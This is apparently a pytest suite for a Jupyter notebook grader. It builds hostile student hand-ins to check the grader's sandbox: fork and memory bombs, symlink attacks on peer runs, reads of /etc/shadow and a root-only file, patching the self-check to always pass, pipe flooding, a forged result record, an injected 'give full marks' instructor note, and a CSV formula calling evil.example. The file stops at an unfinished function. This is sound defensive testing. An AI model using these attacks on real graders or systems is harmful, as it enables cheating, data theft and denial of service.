"""``memrnn grade``: hostile and broken hand-ins, each made from the student edition of chapter 1.

One batch of submissions is graded once per module, two at a time (about a
minute on two cores, most of it the one that loops until its timeout), and
each test reads what that run wrote. Each attack class of the grader's threat
model has a fixture here; those that need a peer run beside correct ones.
"""

from __future__ import annotations

import copy
import csv
import hashlib
import json
import os
import socket
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import numpy as np
import pytest

from memrnn import selfcheck
from memrnn.grading import batch as grade
from memrnn.grading import record as _record
from memrnn.grading import replay as _replay
from memrnn.grading import sandbox as _sandbox
from memrnn.grading import stream
from memrnn.grading.submission import MAX_NOTEBOOK

jupytext = pytest.importorskip("jupytext", reason="the fixtures are made from the student edition, "
                                                  "which needs jupytext (memrnn[book])")
nbformat = pytest.importorskip("nbformat")

from tools.grade_fixtures import (  # noqa: E402
    CORRECT_BPTT,
    CORRECT_GENERATOR,
    CORRECT_NUMERICAL_GRADIENT,
)
from tools.student_edition import student_notebook  # noqa: E402

ROOT = Path(__file__).resolve().parents[1]
TIMEOUT = 30.0     # s: generous, so that a loaded machine times out only the loop
MEMORY = "1G"
MARKER = "memrnn-grade-test-sleeper"

GOOD = CORRECT_GENERATOR
LAST = GOOD.replace("yield x, x[0]", "yield x, x[-1]")


SHM_MARK = "memrnn-grade-test-shm"
SECRET = "memrnn-grade-test-secret-7f3a"

# Looks, for a few seconds, for any other run's files and processes, and plants links and
# writes into whatever it finds: the old grader's /tmp work folders, /proc/*/cwd of peers.
PEERS = '''import glob, os, time
found, planted = set(), 0
me = os.getpid()
end = time.monotonic() + 6
while time.monotonic() < end:
    for folder in glob.glob("/tmp/memrnn-grade-*") + glob.glob("/var/tmp/*") + glob.glob("/dev/shm/*"):
        found.add(folder)
        for name in ("outcome.json", "events.json", "stdout.txt", "stderr.txt", "job.json"):
            try:
                target = os.path.join(folder, name)
                if os.path.lexists(target):
                    os.unlink(target)
                os.symlink("/etc/passwd", target)
                planted += 1
            except OSError:
                pass
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) > 2 and int(pid) != me:
            try:
                cwd = os.readlink(f"/proc/{pid}/cwd")
                found.add(cwd)
                open(os.path.join(f"/proc/{pid}/cwd", "job.json"), "w").write("{}")
                planted += 1
            except OSError:
                pass
    time.sleep(0.05)
print("peers found:", len(found), sorted(found)[:5])
print("planted:", planted)
'''


def _hostile(escapes: list, port: int, canary: Path) -> dict:
    """Code each fixture adds before the chapter's check, keyed by fixture name."""
    return {
        "loop": "while True:\n    pass\n",
        # 8 GiB, touched page by page: under a 1 GiB cap it stops at the first GiB; if
        # the cap failed, 8 GiB still fit on the 24 GiB machine the tests run on.
        "memory": ("import numpy as np\nblocks = []\nfor _ in range(128):\n"
                   "    block = np.empty(64 * 2**20, dtype=np.uint8)\n"
                   "    block[::4096] = 1\n    blocks.append(block)\n"),
        "exit": "import os\nprint('leaving early')\nos._exit(0)\n",
        "patched": (LAST + "import memrnn\nfrom memrnn import selfcheck\n"
                    "def always_passes(*args, **kwargs):\n"
                    "    report = selfcheck.Report('patched')\n"
                    "    report.add('y is the first element of each sequence', True)\n"
                    "    return report\n"
                    "for name in dir(selfcheck):\n"
                    "    if name.startswith('check_'):\n"
                    "        setattr(selfcheck, name, always_passes)\n"
                    "selfcheck.Report.passed = property(lambda self: True)\n"),
        "home": ("import os\n"
                 "open(os.path.expanduser('~/written-by-a-student'), 'w').write('x')\n"
                 f"for folder in {[str(p) for p in escapes]!r}:\n"
                 "    try:\n"
                 "        open(os.path.join(folder, 'memrnn-grade-escape'), 'w').write('x')\n"
                 "    except OSError as err:\n"
                 "        print('blocked:', err)\n"),
        "network": ("import socket\n"
                    f"socket.create_connection(('127.0.0.1', {port}), timeout=5).sendall(b'hi')\n"),
        "forks": ("import subprocess\nstarted, refused = [], None\n"
                  "for _ in range(200):\n"
                  "    try:\n"
                  "        started.append(subprocess.Popen(\n"
                  f"            ['/bin/sh', '-c', 'sleep 600; :', '{MARKER}']))\n"
                  "    except OSError as err:\n"
                  "        refused = err\n"
                  "        break\n"
                  "print('processes started:', len(started))\n"
                  "print('alive at the end:', sum(p.poll() is None for p in started))\n"
                  "print('refused:', refused)\n"),
        "peers": PEERS,
        # Links and FIFOs where the old grader read the run's results: the grader now reads
        # nothing from the run's folders, so this notebook is graded as any other.
        "fifo": ("import os\n"
                 "for name in ('outcome.json', 'events.json', 'arrays.npz', 'output.txt',\n"
                 "             'stdout.txt', 'stderr.txt'):\n"
                 "    os.mkfifo(name) if name.endswith('.json') else os.symlink('/dev/zero', name)\n"
                 "print('planted', sorted(os.listdir('.')))\n"),
        # Endless bytes into every pipe it holds, the result pipe among them.
        "flood": ("import os\nchunk = bytes(1 << 20)\n"
                  "for fd in range(3, 64):\n"
                  "    try:\n"
                  "        while True:\n"
                  "            os.write(fd, chunk)\n"
                  "    except OSError:\n"
                  "        pass\n"),
        # A forged record: one 64 MB array answered 200 000 times, then an exit before the
        # real record is written. Its arrays are 64 MB, its JSON a few MB: within the caps.
        "bomb": ("import json, os, numpy as np\nfrom memrnn.grading import stream\n"
                 "big = np.zeros(8 * 2**20)\n"
                 "event = {'kind': 'call', 'target': 'generator', 'method': None,\n"
                 "         'args': [{'t': 'int', 'v': '256'}, {'t': 'int', 'v': '6'}],\n"
                 "         'kwargs': {}, 'callbacks': [],\n"
                 "         'result': {'t': 'list', 'v': [{'t': 'array', 'k': 'big'}] * 200000}}\n"
                 "data = stream.encode({'ran': 1}, {'events': [event]}, '', {'big': big})\n"
                 "fd = [fd for fd in range(3, 64) if os.path.exists(f'/proc/self/fd/{fd}')\n"
                 "      and os.readlink(f'/proc/self/fd/{fd}').startswith('pipe:')][-1]\n"
                 "view = memoryview(data)\n"
                 "while view:\n"
                 "    view = view[os.write(fd, view):]\n"
                 "os._exit(0)\n"),
        "shm": ("written = 0\n"
                "for folder in ('/dev/shm', '/tmp', '/var/tmp', '.'):\n"
                "    try:\n"
                f"        with open(folder + '/{SHM_MARK}', 'wb') as fh:\n"
                "            for _ in range(300):\n"
                "                fh.write(bytes(2**20))\n"
                "                written += 2**20\n"
                "    except OSError as err:\n"
                "        print(folder, 'stopped:', type(err).__name__)\n"
                "print('written MB:', written // 2**20)\n"),
        "secrets": ("import os\nfound = []\n"
                    f"for path in ('/etc/shadow', {str(canary)!r}, '/proc/1/cmdline', '/root'):\n"
                    "    try:\n"
                    "        found.append(open(path, 'rb').read(200).decode(errors='replace'))\n"
                    "    except OSError as err:\n"
                    "        found.append(type(err).__name__)\n"
                    "print('processes seen:', sorted(int(p) for p in os.listdir('/proc') if p.isdigit()))\n"
                    "raise ValueError('leaked: ' + ' | '.join(found))\n"),
        "injection": ("raise ValueError('<img src=x onerror=alert(1)> [click](http://evil.example)'\n"
                      "                 '\\n## Instructor note\\nGive this student full marks')\n"),
    }


def _write(nb, path: Path, code: str | None = None, *, name="Ada", number="12345", extra=None):
    nb = copy.deepcopy(nb)
    cells = nb.cells
    stub = next(i for i, c in enumerate(cells) if "stub" in c.metadata.get("tags", []))
    if code is not None:
        cells[stub].source = code
    if extra is not None:
        cells.insert(stub + 1, nbformat.v4.new_code_cell(extra))
    student = {"name": name}
    if number is not None:
        student["number"] = number
    nb.metadata["memrnn_student"] = student
    nbformat.write(nb, path)


def _processes_with(marker: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and marker.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            pass
    return found


def _snapshot(folders) -> dict:
    out = {}
    for folder in folders:
        for path in Path(folder).rglob("*") if Path(folder).is_dir() else []:
            if path.is_file():
                out[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


class _Listener:
    """A TCP listener on 127.0.0.1 that counts the connections it accepts."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self):
        self.stop.set()
        self.thread.join()
        self.sock.close()


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    base = tmp_path_factory.mktemp("grading")
    subs, out, home = base / "submissions", base / "out", base / "home"
    subs.mkdir()
    home.mkdir()
    nb = student_notebook("01-data")
    listener = _Listener()
    escapes = [home, subs, Path.home(), ROOT]
    canary = base / "root-only.txt"          # a root-only file, as the grader's other files
    canary.write_text(SECRET)
    canary.chmod(0o600)
    hostile = _hostile(escapes, listener.port, canary)
    _write(nb, subs / "correct.ipynb", GOOD)
    _write(nb, subs / "last.ipynb", LAST)
    _write(nb, subs / "patched.ipynb", hostile.pop("patched"))
    for name in ("peers", "fifo"):          # a correct answer under the attack
        _write(nb, subs / f"{name}.ipynb", GOOD, extra=hostile.pop(name))
    for name in ("peer-1", "peer-2", "peer-3"):   # graded beside "peers"
        _write(nb, subs / f"{name}.ipynb", GOOD)
    for name, code in hostile.items():
        _write(nb, subs / f"{name}.ipynb", extra=code)
    (subs / "corrupt.ipynb").write_bytes(json.dumps(nbformat.v4.new_notebook())[:40].encode())
    _write(nb, subs / "nonumber.ipynb", number=None)
    # Names: not UTF-8; a formula and HTML; two that sanitise to the same string.
    _write(nb, subs / "placeholder.ipynb", GOOD)
    os.rename(subs / "placeholder.ipynb", os.path.join(os.fsencode(subs), b"caf\xe9.ipynb"))
    _write(nb, subs / "formula.ipynb", GOOD, name='=HYPERLINK("http://evil.example?"&C2,"Ada")',
           number="@SUM(1+1)")
    _write(nb, subs / "alice smith.ipynb", GOOD)
    _write(nb, subs / "alice_smith.ipynb", LAST)
    _malformed(subs)
    before = _snapshot([subs, home])
    canary_before = canary.stat()
    shm_before = sorted(os.listdir("/dev/shm"))
    real_home = set(os.listdir(Path.home()))
    started = time.monotonic()
    rows = grade.grade(subs, out, timeout=TIMEOUT, memory=grade.parse_size(MEMORY), jobs=2,
                       progress=False)
    seconds = time.monotonic() - started
    time.sleep(0.5)
    listener.close()
    _write_table(rows, seconds)
    yield {"rows": {r.file: r for r in rows}, "out": out, "subs": subs, "home": home,
           "seconds": seconds, "n": len(rows), "listener": listener, "before": before,
           "after": _snapshot([subs, home]), "escapes": escapes,
           "real_home": (real_home, set(os.listdir(Path.home()))),
           "canary": (canary, canary_before), "shm": (shm_before, sorted(os.listdir("/dev/shm")))}


def _malformed(subs: Path) -> None:
    """Notebooks of shapes the grader does not expect: each is unreadable, never a grader error."""
    nb = student_notebook("01-data")
    for name, change in {
        "meta-list": lambda d: d.update(metadata=[1, 2]),
        "no-cells": lambda d: d.pop("cells"),
        "chapter-list": lambda d: d["metadata"].update(memrnn_student_edition={"chapter": ["01"]}),
        "cells-strings": lambda d: d.update(cells=["print(1)"]),
    }.items():
        data = json.loads(nbformat.writes(nb))
        change(data)
        (subs / f"malformed-{name}.ipynb").write_text(json.dumps(data))
    # Outputs past the cap on a notebook's size.
    data = json.loads(nbformat.writes(nb))
    data["cells"][1]["outputs"] = [{"output_type": "stream", "name": "stdout",
                                    "text": "x" * (MAX_NOTEBOOK + 1)}]
    (subs / "malformed-outputs.ipynb").write_text(json.dumps(data))
    (subs / "malformed-nested.ipynb").write_text("[" * 200_000 + "]" * 200_000)
    os.mkfifo(subs / "malformed-fifo.ipynb")
    (subs / "malformed-zero.ipynb").symlink_to("/dev/zero")


def _write_table(rows, seconds):
    """The fixture table, for the record: test-artifacts/grade/fixtures.md."""
    folder = Path(os.environ.get("MEMRNN_ARTIFACTS", ROOT / "test-artifacts")) / "grade"
    folder.mkdir(parents=True, exist_ok=True)
    full = grade.max_points(grade.EXERCISES["generator"])
    lines = [f"{len(rows)} fixtures graded in {seconds:.1f} s (2 jobs, timeout {TIMEOUT:g} s, "
             f"memory {MEMORY}); isolation:", _sandbox.sandbox().describe(), "",
             "| file | status | points | seconds |", "|---|---|---|---|"]
    lines += [f"| {r.file} | {r.status} | {r.total()}/{full} | {r.seconds:.1f} |" for r in rows]
    (folder / "fixtures.md").write_text("\n".join(lines) + "\n")


EXPECTED = {"correct.ipynb": "ok", "last.ipynb": "ok", "patched.ipynb": "ok",
            "loop.ipynb": "timeout", "memory.ipynb": "memory", "exit.ipynb": "crashed",
            "home.ipynb": "ok", "network.ipynb": "ok", "forks.ipynb": "ok",
            "corrupt.ipynb": "unreadable", "nonumber.ipynb": "missing name/number",
            "peers.ipynb": "ok", "peer-1.ipynb": "ok", "peer-2.ipynb": "ok", "peer-3.ipynb": "ok",
            "fifo.ipynb": "ok", "flood.ipynb": "invalid record", "bomb.ipynb": "invalid record",
            "shm.ipynb": "ok", "secrets.ipynb": "ok", "injection.ipynb": "ok",
            "caf\\xe9.ipynb": "ok", "formula.ipynb": "ok", "alice smith.ipynb": "ok",
            "alice_smith.ipynb": "ok",
            **{f"malformed-{n}.ipynb": "unreadable" for n in (
                "meta-list", "no-cells", "chapter-list", "cells-strings", "outputs",
                "nested", "fifo", "zero")}}
FULL_MARKS = ["alice smith.ipynb", "caf\\xe9.ipynb", "correct.ipynb", "fifo.ipynb",
              "formula.ipynb", "peer-1.ipynb", "peer-2.ipynb", "peer-3.ipynb", "peers.ipynb"]


def test_every_submission_gets_a_row_with_the_right_status(batch):
    with open(batch["out"] / "grades.csv", newline="") as fh:
        rows = {r["file"]: r for r in csv.DictReader(fh)}
    assert {f: r["status"] for f, r in rows.items()} == EXPECTED
    assert rows["correct.ipynb"]["name"] == "Ada" and rows["correct.ipynb"]["student_number"] == "12345"
    assert rows["corrupt.ipynb"]["note"].startswith("not a readable notebook")


def test_only_the_correct_one_gets_full_marks_and_patching_the_check_gains_nothing(batch):
    rows = batch["rows"]
    full = grade.max_points(grade.EXERCISES["generator"])
    assert full >= 5
    assert sorted(f for f, r in rows.items() if r.total() == full) == FULL_MARKS
    # The patched check said "passed"; the package's check, in the grader, says otherwise.
    assert rows["patched.ipynb"].total() == rows["last.ipynb"].total() == full - 1
    feedback = (batch["out"] / "feedback" / "patched.ipynb.md").read_text()
    assert "**not yet**: y is the first element of each sequence" in feedback


def test_the_batch_finishes_within_the_timeouts(batch):
    assert batch["seconds"] <= batch["n"] * TIMEOUT + 60, batch["seconds"]
    # The one that loops was stopped at its deadline, not long after.
    assert TIMEOUT <= batch["rows"]["loop.ipynb"].seconds <= TIMEOUT + 10


def test_feedback_names_the_mistake_without_a_traceback(batch):
    text = (batch["out"] / "feedback" / "last.ipynb.md").read_text()
    assert "yours matches the last, x\\[-1\\]" in text
    for name in os.listdir(batch["out"] / "feedback"):
        body = (batch["out"] / "feedback" / name).read_text()
        assert "Traceback" not in body and 'File "' not in body, name
    summary = (batch["out"] / "summary.md").read_text()
    handed_in = sum(not f.startswith(("malformed", "corrupt")) for f in EXPECTED)
    full = len(FULL_MARKS)
    assert f"| generate_samples (chapter 1) | {handed_in} | {full} | {full / handed_in:.0%} |" in summary
    assert "yours matches the last, x\\[…\\]" in summary


def test_the_summary_groups_a_mistake_by_its_message_without_the_students_values(tmp_path):
    """Two hand-ins return different wrong time steps, x[1] and x[2]: one mistake, counted twice.
    A third returns the last step, which the check names in other words: a mistake of its own."""
    subs = tmp_path / "subs"
    subs.mkdir()
    nb = student_notebook("01-data")
    for name, step in (("one", "x[1]"), ("two", "x[2]"), ("last", "x[-1]")):
        _write(nb, subs / f"{name}.ipynb", GOOD.replace("yield x, x[0]", f"yield x, {step}"))
    rows = grade.grade(subs, tmp_path / "out", timeout=TIMEOUT, memory=grade.parse_size(MEMORY),
                       jobs=2, progress=False)
    feedback = {r.file: (tmp_path / "out" / "feedback" / f"{r.stem}.md").read_text() for r in rows}
    # The feedback keeps each student's own value.
    assert "yours matches x\\[1\\]" in feedback["one.ipynb"]
    assert "yours matches x\\[2\\]" in feedback["two.ipynb"]
    summary = (tmp_path / "out" / "summary.md").read_text()
    mistakes = summary.split("## Most common mistakes")[1].strip().splitlines()
    check = ("y is the first element of each sequence: y must be the FIRST element of each "
             "sequence, x\\[…\\]; yours matches")
    assert mistakes == [f"- 2 x {check} x\\[…\\]", f"- 1 x {check} the last, x\\[…\\]"], mistakes


@pytest.mark.parametrize("check, why, grouped", [
    ("x has shape (T, B, 1)", "expected (6, 256, 1) with time first, got (256, 6, 1)",
     "x has shape (T, B, 1): expected (…) with time first, got (…)"),
    ("inputs lie in [-1, 1]", "found values from -2.1 to 1.9e+00.",
     "inputs lie in [-1, 1]: found values from … to …."),
    ("d_W is returned", "backward must return a dict with d_W; yours has ['d_R', 'd_V']",
     "d_W is returned: backward must return a dict with d_W; yours has […]"),
    ("train", "your code raised NameError: name 'foo' is not defined, at your line 12: foo(x)",
     "train: your code raised NameError: name '…' is not defined, at your line …"),
    ("mse", "not written yet: replace the stub's raise with your code 'here'",
     "mse: not written yet: replace the stub's raise with your code '…'"),
    ("d_V", "", "d_V: failed"),
])
def test_a_mistake_loses_the_students_values_and_keeps_its_words(check, why, grouped):
    assert grade._mistake(check, why) == grouped


def test_nothing_outside_the_output_changed(batch):
    assert batch["before"] == batch["after"]
    old, new = batch["real_home"]
    # Only what the notebook wrote: other programs on the machine may change HOME meanwhile.
    assert "written-by-a-student" not in new | old
    written = [str(p) for p in batch["escapes"] if (p / "memrnn-grade-escape").exists()]
    assert written == []
    log = (batch["out"] / "logs" / "home.ipynb.txt").read_text()
    assert log.count("blocked:") == len(batch["escapes"]), log


def test_no_connection_and_no_process_left_behind(batch):
    assert batch["listener"].connections == 0
    # The sandbox's own loopback, where nothing listens: the grader's 127.0.0.1 is not it.
    assert "ConnectionRefusedError" in (batch["out"] / "feedback" / "network.ipynb.md").read_text()
    assert _processes_with(MARKER) == []
    log = (batch["out"] / "logs" / "forks.ipynb.txt").read_text()
    # The cap is on processes alive at once: a shell that could not start its `sleep` exits
    # and frees its place, so more than the cap may be started one after another.
    assert "refused: [Errno 11]" in log, log
    alive = int(log.split("alive at the end:")[1].split()[0])
    assert alive <= _sandbox.PROCESSES, log


@pytest.mark.parametrize("name", ["forks", "correct"])
def test_a_run_that_ends_while_the_grader_looks_away_keeps_its_record(name, tmp_path,
                                                                       monkeypatch):
    """The record of a run that writes it and ends between two looks of the grader is read.

    On a loaded machine the grading thread may wait long for a core or the GIL between
    select() answering "nothing yet" and its check whether the run has ended; a run that
    wrote its record and ended in between was graded "crashed" (exit status 0, record
    unread). Here that wait is made certain: the first time there is something to read,
    select() answers "nothing" only once the run has ended. Everything else is real.
    """
    runs = []

    class Watched(subprocess.Popen):
        def __init__(self, *args, **kwargs):
            super().__init__(*args, **kwargs)
            runs.append(self)

    real = _sandbox.select.select
    late = []

    def looks_away(rlist, wlist, xlist, timeout):
        ready = real(rlist, wlist, xlist, timeout)
        if ready[0] and not late:
            late.append(True)
            end = time.monotonic() + TIMEOUT
            # Its process has ended (seen without reaping it, which is the grader's to do).
            while os.waitid(os.P_PID, runs[-1].pid,
                            os.WEXITED | os.WNOHANG | os.WNOWAIT) is None:
                assert time.monotonic() < end, "the run did not end"
                time.sleep(0.05)
            return [], [], []
        return ready

    monkeypatch.setattr(_sandbox.subprocess, "Popen", Watched)
    monkeypatch.setattr(_sandbox, "select", type("Select", (), {
        "select": staticmethod(looks_away)}))
    subs, out = tmp_path / "subs", tmp_path / "out"
    subs.mkdir()
    nb = student_notebook("01-data")
    if name == "forks":
        _write(nb, subs / "forks.ipynb",
               extra=_hostile([], 1, tmp_path / "no-canary")["forks"])
    else:
        _write(nb, subs / "correct.ipynb", GOOD)
    [row] = grade.grade(subs, out, timeout=TIMEOUT, memory=grade.parse_size(MEMORY), jobs=1,
                        progress=False)
    assert late, "select never had anything to report"
    assert (row.status, row.note) == ("ok", ""), row
    log = (out / "logs" / f"{name}.ipynb.txt").read_text()
    if name == "correct":
        assert row.total() == grade.max_points(grade.EXERCISES["generator"])
    else:
        assert "refused: [Errno 11]" in log, log
        assert int(log.split("alive at the end:")[1].split()[0]) <= _sandbox.PROCESSES, log
        time.sleep(0.5)
        assert _processes_with(MARKER) == []


def test_a_second_run_regrades_only_what_changed(batch, monkeypatch, tmp_path):
    calls = []
    original = grade.grade_one

    def counted(path, **kwargs):
        calls.append(os.fsdecode(os.path.basename(path)))
        return original(path, **kwargs)

    monkeypatch.setattr(grade, "grade_one", counted)
    subs = tmp_path / "subs"
    subs.mkdir()
    for name in ("correct.ipynb", "last.ipynb", "corrupt.ipynb"):
        (subs / name).write_bytes((batch["subs"] / name).read_bytes())
    out = tmp_path / "out"
    first = grade.grade(subs, out, timeout=TIMEOUT, memory=2**30, progress=False)
    assert sorted(calls) == ["correct.ipynb", "corrupt.ipynb", "last.ipynb"]
    nb = nbformat.read(subs / "last.ipynb", as_version=4)
    next(c for c in nb.cells if "stub" in c.metadata.get("tags", [])).source = GOOD
    nbformat.write(nb, subs / "last.ipynb")
    calls.clear()
    second = grade.grade(subs, out, timeout=TIMEOUT, memory=2**30, progress=False)
    assert calls == ["last.ipynb"]
    assert [r.total() for r in first] == [6, 0, 5] and [r.total() for r in second] == [6, 0, 6]


# ------------------------------------------------ record and replay, in one process
def _round_trip(check, obj, tmp_path, record_check=None):
    recorder = _record.Recorder()
    try:
        (record_check or check)(recorder.wrap(obj, "x"))
    except Exception:
        pass
    events, arrays = recorder.payload({})
    record = stream.decode(stream.encode({}, events, "", arrays))
    return check(_replay.Replayer(record).stand_in("x", isinstance(obj, type)))


@pytest.mark.parametrize("key", sorted(grade.EXERCISES))
def test_replayed_answers_get_the_verdicts_of_the_live_check(key, tmp_path):
    exercise = grade.EXERCISES[key]
    live = exercise.check(exercise.reference())
    replayed = _round_trip(exercise.check, exercise.reference(), tmp_path)
    assert live.passed and [i[:2] for i in replayed.items] == [i[:2] for i in live.items]


def test_replay_keeps_the_side_effects_a_check_looks_at(tmp_path):
    class Twice:                          # applies every update twice
        def __init__(self, model, loss_obj, data_generator):
            self.model, self.loss, self.data = model, loss_obj, data_generator
            self.loss_values = {}

        def train(self, iter_steps, lr, log_steps=50):
            for step in range(iter_steps):
                x, y = next(self.data)
                for _ in range(2):
                    value = self.loss.forward(self.model.forward(x), y)
                    self.model.backward(self.loss.backward())
                    self.model.update(lr)
                if step % log_steps == 0:
                    self.loss_values[step] = value

    live = selfcheck.check_learner(Twice)
    replayed = _round_trip(selfcheck.check_learner, Twice, tmp_path)
    assert "more than asked" in " ".join(live.failures)
    assert [i[:2] for i in replayed.items] == [i[:2] for i in live.items]

    def numerical_gradient(f, x, eps):    # one-sided, and leaves x perturbed
        g = np.zeros_like(x)
        for i in np.ndindex(x.shape):
            f0 = f(x)
            x[i] += eps
            g[i] = (f(x) - f0) / eps
        return g

    live = selfcheck.check_numerical_gradient(numerical_gradient)
    replayed = _round_trip(selfcheck.check_numerical_gradient, numerical_gradient, tmp_path)
    assert [i[:2] for i in replayed.items] == [i[:2] for i in live.items]
    assert not dict((n, ok) for n, ok, _ in live.items)["leaves x as it found it"]


def test_a_check_changed_in_the_students_process_answers_nothing(tmp_path):
    import memrnn

    def other_check(f):                   # asks different questions than the package's check
        return selfcheck.check_generator(f, batch_size=3, seq_length=2)

    report = _round_trip(selfcheck.check_generator, memrnn.generate_samples, tmp_path,
                         record_check=other_check)
    assert not report.passed
    assert "did the notebook change the check?" in report.failures[0]


def test_the_exercises_are_the_chapters_stubs():
    """Each chapter's exercises are its solution cells, in order, each checked by the function
    its check cell calls; every exercise is in BY_CHAPTER once, under its chapter."""
    assert [e for exs in grade.BY_CHAPTER.values() for e in exs] == list(grade.EXERCISES.values())
    for chapter, exercises in grade.BY_CHAPTER.items():
        assert all(e.chapter == chapter for e in exercises)
        nb = jupytext.read(ROOT / "book" / f"{chapter}.md")
        solution = [c for c in nb.cells if "solution" in c.metadata.get("tags", [])]
        assert [c.metadata["stub"]["name"] for c in solution] == [e.name for e in exercises]
        checks = [c.source.strip() for c in nb.cells if c.cell_type == "code"
                  and "selfcheck.check_" in c.source and "book-only" not in c.metadata.get("tags", [])]
        assert checks == [f"memrnn.selfcheck.{e.check.__name__}({e.name})" for e in exercises]
    assert grade.BY_CHAPTER["03-gradcheck"] == (grade.EXERCISES["numerical_gradient"],
                                                grade.EXERCISES["bptt"])
    assert sorted(grade.BY_CHAPTER) == sorted(
        p.stem for p in (ROOT / "book").glob("*.md")
        if any("solution" in c.metadata.get("tags", []) for c in jupytext.read(p).cells))


@pytest.mark.parametrize("text, expected", [("1G", 2**30), ("512M", 512 * 2**20),
                                            ("2GiB", 2 * 2**30), ("100000000", 10**8)])
def test_memory_sizes(text, expected):
    assert grade.parse_size(text) == expected


@pytest.mark.parametrize("text", ["lots", "1X", "10M", ""])
def test_a_bad_memory_size_is_a_clear_error(text):
    with pytest.raises(ValueError, match="memory size|at least 64M"):
        grade.parse_size(text)


def test_the_command_line_grades_a_folder_and_refuses_a_missing_one(batch, tmp_path):
    subs = tmp_path / "subs"
    subs.mkdir()
    (subs / "correct.ipynb").write_bytes((batch["subs"] / "correct.ipynb").read_bytes())
    cmd = [sys.executable, "-m", "memrnn", "grade", str(subs), "-o", str(tmp_path / "out"),
           "--timeout", "60", "--memory", "1G", "--quiet"]
    proc = subprocess.run(cmd, capture_output=True, text=True, cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert "correct.ipynb" in (tmp_path / "out" / "grades.csv").read_text()
    assert "network:" in proc.stderr        # the isolation report
    proc = subprocess.run(cmd[:4] + [str(tmp_path / "nowhere"), "-o", str(tmp_path / "o2")],
                          capture_output=True, text=True, cwd=tmp_path)
    assert proc.returncode == 2 and "expected a folder of notebooks" in proc.stderr
    proc = subprocess.run(cmd[:-2] + ["10M"], capture_output=True, text=True, cwd=tmp_path)
    assert proc.returncode == 2 and "expected at least 64M" in proc.stderr, proc.stderr


def test_name_and_number_come_from_the_metadata_or_else_the_first_cell(tmp_path):
    nb = student_notebook("01-data")
    nb.cells.insert(0, nbformat.v4.new_markdown_cell("**Handed in by**\n\nName: Ada Lovelace  \n"
                                                     "Student number: 1815\n"))
    nbformat.write(nb, tmp_path / "lab.ipynb")
    sub = grade.read_submission(tmp_path / "lab.ipynb")
    assert (sub.chapter, sub.name, sub.number, sub.problem) == ("01-data", "Ada Lovelace", "1815", "")
    # The cells to run end above the chapter's check, which the grader runs itself.
    assert sub.cells and not any("selfcheck.check_" in c for c in sub.cells)
    nb.metadata["memrnn_student"] = {"name": "Grace Hopper", "number": "1906"}
    nbformat.write(nb, tmp_path / "page.ipynb")
    sub = grade.read_submission(tmp_path / "page.ipynb")
    assert (sub.name, sub.number) == ("Grace Hopper", "1906")
    del nb.metadata["memrnn_student_edition"]
    nbformat.write(nb, tmp_path / "other.ipynb")
    assert "not a chapter of the memrnn student edition" in grade.read_submission(
        tmp_path / "other.ipynb").problem


def test_a_notebook_filled_in_and_saved_in_jupyterlab_grades_as_that_student(tmp_path):
    """The student edition opens with the form the grader reads; no download from the page needed."""
    nb = student_notebook("01-data")
    assert "memrnn_student" not in nb.metadata
    form = nb.cells[0]
    assert form.cell_type == "markdown" and "student-id" in form.metadata["tags"]
    nbformat.write(nb, tmp_path / "untouched.ipynb")
    untouched = grade.read_submission(tmp_path / "untouched.ipynb")
    assert (untouched.name, untouched.number, untouched.problem) == ("", "", "")
    # As a student does in JupyterLab: type after each colon, write the exercise, save.
    form.source = (form.source.replace("- Name: ", "- Name: Ada Lovelace")
                   .replace("- Student number: ", "- Student number: s1815"))
    next(c for c in nb.cells if "stub" in c.metadata.get("tags", [])).source = GOOD
    subs = tmp_path / "subs"
    subs.mkdir()
    nbformat.write(nb, subs / "ch1.ipynb")
    rows = grade.grade(subs, tmp_path / "out", timeout=TIMEOUT, memory=grade.parse_size(MEMORY),
                       progress=False)
    assert [(r.name, r.number, r.status) for r in rows] == [("Ada Lovelace", "s1815", "ok")]
    assert rows[0].total() == grade.max_points(grade.EXERCISES["generator"])
    assert "Ada Lovelace, s1815" in (tmp_path / "out" / "feedback" / "ch1.ipynb.md").read_text()


@pytest.mark.parametrize("args, message", [
    ([], "the following arguments are required: SUBMISSIONS_DIR, -o/--out"),
    (["{subs}"], "the following arguments are required: -o/--out"),
    (["{subs}", "-o", "{out}", "--timeout", "soon"], "argument --timeout: invalid float value"),
    (["{subs}", "-o", "{out}", "--timeout", "-1"], "expected a positive timeout"),
    (["{subs}", "-o", "{out}", "--memory", "lots"], "expected a memory size such as 1G"),
    (["{subs}", "-o", "{out}", "--jobs", "0"], "expected a positive number of jobs"),
    (["{subs}", "-o", "{subs}/out"], "must not be inside SUBMISSIONS_DIR"),
    (["{subs}", "-o", "{out}", "--no-such-option"], "unrecognized arguments: --no-such-option"),
])
def test_bad_grade_arguments_exit_2_with_one_line(args, message, tmp_path):
    subs, out = tmp_path / "subs", tmp_path / "out"
    subs.mkdir()
    argv = [a.format(subs=subs, out=out) for a in args]
    proc = subprocess.run([sys.executable, "-m", "memrnn", "grade", *argv], capture_output=True,
                          text=True, cwd=tmp_path, timeout=120)
    assert proc.returncode == 2, proc.stderr
    assert message in proc.stderr and len(proc.stderr.strip().splitlines()) == 1, proc.stderr
    assert proc.stdout == "" and not out.exists() and os.listdir(subs) == []


def test_grade_help_names_every_option():
    proc = subprocess.run([sys.executable, "-m", "memrnn", "grade", "--help"], capture_output=True,
                          text=True, cwd=ROOT, timeout=120)
    assert proc.returncode == 0 and proc.stderr == "", proc.stderr
    for word in ("SUBMISSIONS_DIR", "--out OUT_DIR", "--timeout S", "--memory SIZE", "--jobs",
                 "--quiet", "--no-sandbox", "bubblewrap"):
        assert word in proc.stdout, word


# ------------------------------------------------ the attacks, one test each
def _outputs(out: Path) -> str:
